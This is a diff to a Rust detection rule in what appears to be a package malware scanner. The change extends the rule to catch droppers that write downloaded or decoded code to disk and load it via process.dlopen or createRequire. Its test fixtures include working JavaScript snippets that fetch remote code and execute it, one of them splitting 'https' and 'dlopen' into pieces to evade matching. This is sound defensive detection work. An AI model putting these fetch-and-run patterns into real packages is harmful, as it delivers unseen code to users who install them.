@@ -6,7 +6,8 @@ use crate::rules::{Emitter, code_files, is_doc_path};
 crate::declare_rule! {
     /// Writes a file whose content came over the network or out of a decoded blob, then loads
     /// that same path: `require`/`import()` of it, `child_process.fork`, or `node` started on it
-    /// (`spawn(process.execPath, [p])`, `exec('node ' + p)`). The path matches when both calls
+    /// (`spawn(process.execPath, [p])`, `exec('node ' + p)`), `process.dlopen` of it (a native
+    /// addon; `createRequire` counts as `require` for what it loads). The path matches when both calls
     /// name the same variable or the same expression (`path.join(os.tmpdir(), 'x.js')`). This
     /// is a dropper: the code that runs is not in the package. Malicious when the file also uses
     /// the network.
@@ -20,10 +21,12 @@ crate::declare_rule! {
     flag: ["const https = require('https'); const fs = require('fs'); https.get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { const p = require('path').join(require('os').tmpdir(), 'u.js'); fs.writeFileSync(p, s); require(p) }) })",
            "const fs = require('fs'); const f = __dirname + '/.c.js'; fs.writeFileSync(f, Buffer.from(blob, 'base64')); require('child_process').spawn(process.execPath, [f], { stdio: 'ignore' })",
            "const fs = require('fs'); const r = await fetch(u); fs.writeFileSync(path.join(os.tmpdir(), 'k.mjs'), await r.text()); await import(path.join(os.tmpdir(), 'k.mjs'))",
-           "const fs = require('fs'); const { exec } = require('child_process'); const res = await fetch(u); const out = dir + '/s.js'; await fs.promises.writeFile(out, await res.text()); exec('node ' + out)"],
+           "const fs = require('fs'); const { exec } = require('child_process'); const res = await fetch(u); const out = dir + '/s.js'; await fs.promises.writeFile(out, await res.text()); exec('node ' + out)",
+           "import { createRequire } from 'node:module'; import { writeFileSync } from 'node:fs'; const r = createRequire(import.meta.url); const h = r('ht' + 'tps'); h.get(u, (res) => { const b = []; res.on('data', (d) => b.push(d)); res.on('end', () => { writeFileSync(file, Buffer.concat(b)); process['dl' + 'open']({ exports: {} }, file); }); });"],
     pass: ["const fs = require('fs'); fs.writeFileSync(cache, babel.transform(src).code); require(cache)",
            "const fs = require('fs'); const r = await fetch(u); fs.writeFileSync(out, await r.text()); require(other)",
            "const fs = require('fs'); fs.writeFileSync(p, Buffer.from(png, 'base64')); console.log(p)",
+           "const fs = require('fs'); const r = await fetch(u); fs.writeFileSync(out, Buffer.from(await r.arrayBuffer())); process.dlopen(m, path.join(__dirname, 'build', 'addon.node'))",
            "const fs = require('fs'); const r = await fetch(u); const f = path.join(dir, 'db.json'); fs.writeFileSync(path.join(dir, 'db.json'), await r.text()); require(path.join(dir, 'db.json'))"],
 }
 
@@ -161,7 +164,33 @@ fn check(pkg: &Package, out: &mut Emitter) {
         if w.is_empty() {
             continue;
         }
-        let loaded = loads(text);
+        let mut loaded = loads(text);
+        // `process.dlopen(module, p)` (however its name is spelled): a native addon runs its
+        // constructors as it loads.
+        if let Some(js) = &f.js {
+            for c in js.calls.iter().filter(|c| c.path == "process.dlopen") {
+                let at = c.off as usize;
+                let Some(near) = text.get(at..(at + 120).min(text.len())) else {
+                    continue;
+                };
+                let Some(open) = ["dlopen(", "]("]
+                    .iter()
+                    .filter_map(|k| near.find(k).map(|i| at + i + k.len() - 1))
+                    .min()
+                else {
+                    continue;
+                };
+                if let Some((first, all)) = args_at(text, open)
+                    && let Some(rest) = all.strip_prefix(first.as_str())
+                {
+                    let second = rest.trim_start_matches(',');
+                    let second = second.split(',').next().unwrap_or("");
+                    if !second.is_empty() {
+                        loaded.push((at, second.to_string()));
+                    }
+                }
+            }
+        }
         let hit = w.iter().find_map(|(_, p, _)| {
             // A downloaded JSON document required as data is a cache, not a stage.
             (!p.is_empty() && !p.contains(".json"))
